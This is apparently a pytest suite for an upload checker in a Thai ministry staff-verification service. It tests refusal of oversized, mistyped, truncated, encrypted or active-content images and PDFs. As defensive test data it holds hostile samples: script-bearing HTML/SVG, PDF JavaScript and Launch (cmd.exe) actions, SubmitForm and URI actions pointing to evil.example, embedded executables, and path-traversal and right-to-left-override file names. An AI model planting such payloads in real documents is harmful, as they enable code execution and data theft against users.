"""The checks an uploaded staff-verification document must pass: every refusal, on real bytes.

Every file here is made by the test itself (Pillow for images, pypdf or a few lines of raw PDF
syntax for PDFs), so each case shows exactly what makes it acceptable or not.
"""

from __future__ import annotations

import hashlib
import io
import random
import re
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfWriter

from idp.verification.documents import pdf as document_pdf
from idp.verification.documents.checks import (
    MAX_BYTES,
    CheckedDocument,
    DocumentRefused,
    check_upload,
    sanitize_filename,
)
from idp.verification.documents.refusal import REFUSAL_MESSAGES

FORM_PDF = Path(__file__).parents[2] / "idp" / "static" / "forms" / "moc-account-staff-application.pdf"


# --- makers -------------------------------------------------------------------------------

def image_bytes(pillow_format: str, size=(64, 48), mode="RGB", noise=False) -> bytes:
    image = Image.new(mode, size, "white")
    if noise:  # incompressible pixels, so that cutting the file loses image data
        rng = random.Random(7)
        image.putdata([tuple(rng.randrange(256) for _ in range(3)) for _ in range(size[0] * size[1])])
    out = io.BytesIO()
    image.save(out, pillow_format)
    return out.getvalue()


def pypdf_bytes(change=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def raw_pdf(catalog=b"", page=b"", extra_objects=(), unlisted=b"") -> bytes:
    """A one-page PDF written by hand: objects 1-3 are catalog, page tree, page; ``extra_objects``
    are numbered from 4; ``unlisted`` bytes sit in the body but not in the xref table."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>",
               *extra_objects]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += unlisted
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def check(content: bytes, filename: str, declared_type: str | None = None, **options) -> CheckedDocument:
    return check_upload(io.BytesIO(content), filename, declared_type, **options)


def refusal(content: bytes, filename: str, declared_type: str | None = None, **options) -> str:
    with pytest.raises(DocumentRefused) as refused:
        check(content, filename, declared_type, **options)
    return refused.value.reason


class CountingStream:
    """``total`` bytes of zeros, handed out as asked; counts what was read."""

    def __init__(self, total: int | None):
        self.total, self.read_so_far = total, 0

    def read(self, size: int = -1) -> bytes:
        assert size > 0, "the checker must never ask for the whole stream"
        left = size if self.total is None else min(size, self.total - self.read_so_far)
        self.read_so_far += left
        return b"\0" * left


# --- accepted -----------------------------------------------------------------------------

@pytest.mark.parametrize(("maker", "filename", "content_type"), [
    (lambda: image_bytes("JPEG"), "scan.jpg", "image/jpeg"),
    (lambda: image_bytes("JPEG"), "SCAN.JPEG", "image/jpeg"),
    (lambda: image_bytes("PNG"), "form.PNG", "image/png"),
    (lambda: pypdf_bytes(), "form.pdf", "application/pdf"),
    (lambda: raw_pdf(), "form.Pdf", "application/pdf"),
])
def test_accepts_real_documents_of_the_allowed_types(maker, filename, content_type):
    content = maker()
    checked = check(content, filename, content_type)
    assert (checked.content_type, checked.size) == (content_type, len(content))
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.read_bytes() == content
    assert checked.filename == filename


def test_the_content_decides_when_the_browser_declares_nothing_useful():
    for declared in (None, "", "application/octet-stream"):
        assert check(image_bytes("PNG"), "a.png", declared).content_type == "image/png"


def test_accepts_benign_pdf_navigation_an_office_suite_writes():
    content = raw_pdf(catalog=b"/OpenAction [3 0 R /Fit]",
                      page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                           b"/A << /S /URI /URI (https://www.moc.go.th/) >> >>]")
    assert check(content, "form.pdf").content_type == "application/pdf"


def test_the_application_form_we_serve_passes_our_own_checks():
    with FORM_PDF.open("rb") as form:
        checked = check_upload(form, FORM_PDF.name, "application/pdf")
    assert checked.content_type == "application/pdf"


def test_the_application_form_is_one_a4_page_with_its_thai_text():
    from pypdf import PdfReader

    reader = PdfReader(FORM_PDF)
    assert len(reader.pages) == 1
    box = reader.pages[0].mediabox
    assert (round(float(box.width)), round(float(box.height))) == (595, 842)  # A4 in points
    # HarfBuzz draws SARA AM (ำ) as two glyphs and fpdf2 gives the second no Unicode mapping,
    # so extraction shows it as a control character: the drawing is right, copied text is not.
    text = re.sub(r"[\x00-\x1f]", "", reader.pages[0].extract_text())
    for expected in ("แบบคำขอใช้บริการ MOC Account สำหรับบุคลากรกระทรวงพาณิชย์",
                     "ความรับผิดชอบในการแจ้งข้อมูลโดยผู้แจ้งข้อมูลจะต้องเป็นผู้รับผิดชอบตามกฎหมาย"
                     "ในทุกกรณีแต่เพียงผู้เดียว",
                     "เลขประจำตัวประชาชน", "ผู้บังคับบัญชา / ผู้ควบคุมการปฏิบัติงาน", "ลงชื่อ",
                     ".jpg .jpeg .png หรือ .pdf ขนาดไม่เกิน 10 MB"):
        assert expected in text, expected


def test_the_committed_application_form_is_what_the_script_builds(tmp_path):
    """The committed PDF says what the script says, so a wording change cannot skip the PDF.

    Compared as the text each page shows, not byte for byte: the embedded font subset and the
    object offsets change with the fontTools and fpdf2 releases the rebuild happens to run on.
    """
    import subprocess
    import sys

    from pypdf import PdfReader

    for module in ("fpdf", "uharfbuzz", "fontTools"):
        pytest.importorskip(module)
    script = FORM_PDF.parents[3] / "scripts" / "make-application-form"
    subprocess.run([sys.executable, str(script), "--output", str(tmp_path / "form.pdf")], check=True,
                   capture_output=True)

    def page_texts(path: Path) -> list[str]:
        return [" ".join(page.extract_text().split()) for page in PdfReader(path).pages]

    rebuilt, committed = page_texts(tmp_path / "form.pdf"), page_texts(FORM_PDF)
    assert rebuilt and all(rebuilt)
    assert rebuilt == committed


def test_a_file_of_exactly_the_limit_is_accepted_and_one_byte_more_is_not():
    content = image_bytes("PNG")
    assert check(content, "a.png", max_bytes=len(content)).size == len(content)
    assert refusal(content, "a.png", max_bytes=len(content) - 1) == "too_large"


# --- size ---------------------------------------------------------------------------------

def test_reading_stops_just_past_ten_megabytes():
    stream = CountingStream(MAX_BYTES + 1)
    with pytest.raises(DocumentRefused) as refused:
        check_upload(stream, "big.pdf", "application/pdf")
    assert refused.value.reason == "too_large"
    assert stream.read_so_far == MAX_BYTES + 1


def test_an_endless_stream_is_refused_without_reading_it_all():
    stream = CountingStream(None)
    with pytest.raises(DocumentRefused, match="too_large"):
        check_upload(stream, "big.png", "image/png", max_bytes=1000)
    assert stream.read_so_far <= 1001


def test_an_empty_file_is_refused():
    assert refusal(b"", "scan.jpg") == "empty"


# --- names and types ----------------------------------------------------------------------

@pytest.mark.parametrize("filename", ["scan.gif", "scan.exe", "scan", "", None, "scan.jpg.exe", ".png"])
def test_only_the_four_extensions_are_allowed(filename):
    assert refusal(image_bytes("PNG"), filename) == "type_not_allowed"


def test_a_gif_named_png_is_not_an_allowed_type():
    assert refusal(image_bytes("GIF"), "photo.png") == "type_not_allowed"


@pytest.mark.parametrize(("content", "filename"), [
    (b"<html><body><script>alert(1)</script></body></html>", "scan.jpg"),
    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "scan.png"),
    (b'\xef\xbb\xbf  \r\n<?xml version="1.0"?><svg/>', "form.pdf"),
    (b"\n\t<script>fetch('/account')</script>", "scan.jpeg"),
    ("<html>".encode("utf-16"), "scan.png"),
    (b"<!DOCTYPE html>%PDF-1.7", "form.pdf"),
])
def test_markup_in_disguise_is_refused_whatever_its_name(content, filename):
    assert refusal(content, filename) == "type_not_allowed"


def test_a_png_named_jpg_is_refused():
    assert refusal(image_bytes("PNG"), "photo.jpg") == "type_mismatch"


def test_a_pdf_named_png_is_refused():
    assert refusal(pypdf_bytes(), "form.png") == "type_mismatch"


def test_a_declared_type_that_contradicts_the_content_is_refused():
    assert refusal(image_bytes("JPEG"), "photo.jpg", "image/png") == "type_mismatch"


def test_a_polyglot_with_bytes_before_the_pdf_header_is_refused():
    assert refusal(b"GIF89a/*junk*/\n" + raw_pdf(), "form.pdf") == "pdf_invalid"


# --- images -------------------------------------------------------------------------------

def test_a_truncated_png_is_refused():
    content = image_bytes("PNG", size=(200, 200), noise=True)
    assert refusal(content[: len(content) // 2], "scan.png") == "image_invalid"


def test_a_truncated_jpeg_is_refused():
    content = image_bytes("JPEG", size=(400, 400), noise=True)
    assert refusal(content[: len(content) * 2 // 3], "scan.jpg") == "image_invalid"


def test_a_png_with_a_damaged_chunk_is_refused():
    content = bytearray(image_bytes("PNG"))
    content[40] ^= 0xFF  # inside the first chunk after IHDR: its CRC no longer matches
    assert refusal(bytes(content), "scan.png") == "image_invalid"


def test_a_jpeg_header_with_nothing_behind_it_is_refused():
    assert refusal(b"\xff\xd8\xff\xe0" + b"\0" * 100, "scan.jpg") == "image_invalid"


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_a_decompression_bomb_is_refused_before_it_is_decoded():
    content = image_bytes("PNG", size=(10_000, 10_000), mode="1")  # 100 megapixels
    assert len(content) < 100_000  # tiny on disk
    assert refusal(content, "bomb.png") == "image_too_large"


# --- PDFs ---------------------------------------------------------------------------------

def test_a_pdf_that_cannot_be_parsed_is_refused():
    assert refusal(b"%PDF-1.7\n" + b"\x00garbage" * 50, "form.pdf") == "pdf_invalid"


def test_an_encrypted_pdf_is_refused_even_without_a_user_password():
    content = pypdf_bytes(lambda w: w.encrypt(user_password="", owner_password="owner",
                                              algorithm="AES-128"))
    assert refusal(content, "form.pdf") == "pdf_encrypted"


def test_a_pdf_with_javascript_run_on_open_is_refused():
    from pypdf.actions import JavaScript

    content = pypdf_bytes(lambda w: w.add_open_action(JavaScript("app.alert('x');")))
    assert refusal(content, "form.pdf") == "pdf_active_content"


def test_a_pdf_with_an_embedded_file_is_refused():
    content = pypdf_bytes(lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00"))
    assert refusal(content, "form.pdf") == "pdf_active_content"


@pytest.mark.parametrize(("catalog", "page", "extra"), [
    (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"", ()),
    (b"/OpenAction 4 0 R", b"", (b"<< /S /JavaScript /JS (app.alert(1)) >>",)),
    (b"/OpenAction << /S /Launch /F (cmd.exe) >>", b"", ()),
    (b"/AA << /WC << /S /URI /URI (https://evil.example/) >> >>", b"", ()),
    (b"", b"/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>", ()),
    (b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"", (b"<< /Length 0 >>\nstream\n\nendstream",)),
    (b"", b"/Annots [4 0 R]", (b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
                               b"/FS << /Type /Filespec /F (a.exe) >> >>",)),
    (b"", b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]", ()),
    # Names written with #xx escapes read as /S /JavaScript and /JS: the parser decodes them.
    (b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>", b"", ()),
])
def test_a_pdf_with_active_content_anywhere_is_refused(catalog, page, extra):
    assert refusal(raw_pdf(catalog, page, extra), "form.pdf") == "pdf_active_content"


def test_javascript_in_an_object_the_xref_does_not_list_is_refused():
    """A viewer that rebuilds a damaged xref may find objects that pypdf's reading skips."""
    hidden = b"9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
    assert refusal(raw_pdf(unlisted=hidden), "form.pdf") == "pdf_active_content"


def test_a_pdf_with_no_pages_is_refused():
    content = raw_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0")
    assert refusal(content, "form.pdf") == "pdf_invalid"


def test_a_pdf_with_more_objects_than_the_bound_is_refused(monkeypatch):
    monkeypatch.setattr(document_pdf, "MAX_PDF_OBJECTS", 5)
    extra = [b"<< /N %d >>" % n for n in range(10)]
    assert refusal(raw_pdf(extra_objects=extra), "form.pdf") == "pdf_invalid"


# --- file names and messages --------------------------------------------------------------

@pytest.mark.parametrize(("given", "kept"), [
    ("C:\\Users\\somchai\\Desktop\\แบบฟอร์ม.pdf", "แบบฟอร์ม.pdf"),
    ("../../etc/passwd.png", "passwd.png"),
    ("scan\x00\x1b[31m.jpg", "scan[31m.jpg"),
    ("invoice\u202egpj.exe", "invoicegpj.exe"),
    ("  scan.png \n", "scan.png"),
])
def test_file_names_are_reduced_to_a_clean_base_name(given, kept):
    assert sanitize_filename(given) == kept


def test_long_file_names_are_cut_to_200_characters_keeping_the_extension():
    name = sanitize_filename("ก" * 500 + ".jpeg")
    assert len(name) == 200 and name.endswith(".jpeg")


def test_every_refusal_has_a_message_translated_into_thai():
    from babel.support import Translations

    thai = Translations.load(str(Path(__file__).parents[2] / "idp" / "translations"), ["th"])
    reasons = {"too_large", "empty", "type_not_allowed", "type_mismatch", "image_invalid",
               "image_too_large", "pdf_invalid", "pdf_encrypted", "pdf_active_content"}
    assert set(REFUSAL_MESSAGES) == reasons
    for message in REFUSAL_MESSAGES.values():
        english = message._args[0]  # the msgid behind the lazy string
        assert english.endswith(".") and "Please" in english
        assert any("\u0e00" <= ch <= "\u0e7f" for ch in thai.gettext(english))
    assert "10 MB" in REFUSAL_MESSAGES["too_large"]._args[0]
    assert DocumentRefused("too_large").message() == str(REFUSAL_MESSAGES["too_large"])
